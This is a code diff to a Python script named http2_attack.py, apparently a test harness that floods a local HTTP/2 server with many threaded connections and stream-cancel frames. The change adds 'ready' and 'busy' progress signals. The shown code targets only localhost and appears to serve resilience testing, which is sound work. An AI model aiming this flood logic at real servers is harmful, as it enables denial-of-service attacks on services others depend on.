@@ -2,7 +2,8 @@
 
     http2_attack.py KIND PORT [--connections N] [--key KEY] [--ca FILE]
 
-KIND is one of KINDS. At SIGTERM it prints JSON: bytes sent, connections that were cut off, and connections refused.
+KIND is one of KINDS. It prints "ready" before it begins, and "busy" when it has sent more than a MiB. At SIGTERM it
+prints JSON: bytes sent, connections that were cut off, and connections refused.
 """
 
 import argparse
@@ -32,6 +33,7 @@ from http2_frames import (
 )
 
 SOURCE = "127.0.0.2"
+MIB = 1 << 20
 STREAMS = 200_000  # of a connection, before it begins anew
 CANCEL = b"\x00\x00\x00\x08"
 EMPTY = b"\x00\x00\x00\x00\x00"  # a message of no bytes
@@ -91,7 +93,7 @@ class Flood:
         if self.context is not None:
             self.context.set_alpn_protocols(["h2"])
         self.counts: collections.Counter[str] = collections.Counter()
-        self.over = threading.Event()
+        self.busy, self.over = threading.Event(), threading.Event()
 
     def connect(self) -> socket.socket:
         connection = socket.create_connection(("127.0.0.1", self.port), timeout=10, source_address=(SOURCE, 0))
@@ -122,6 +124,12 @@ class Flood:
             sent = connection.send(self.bytes[at : at + 65536])
             self.counts["bytes"] += sent
             at += sent
+            if self.counts["bytes"] > MIB:
+                self.busy.set()
+
+    def tell_when_busy(self) -> None:
+        self.busy.wait()
+        print("busy", flush=True)
 
 
 def drain(connection: socket.socket) -> None:
@@ -143,6 +151,7 @@ def main() -> None:
     os.nice(5)
     threads = [threading.Thread(target=flood.attack, daemon=True) for _ in range(words.connections)]
     print("ready", flush=True)
+    threading.Thread(target=flood.tell_when_busy, daemon=True).start()
     for thread in threads:
         thread.start()
     signal.sigwait({signal.SIGTERM})
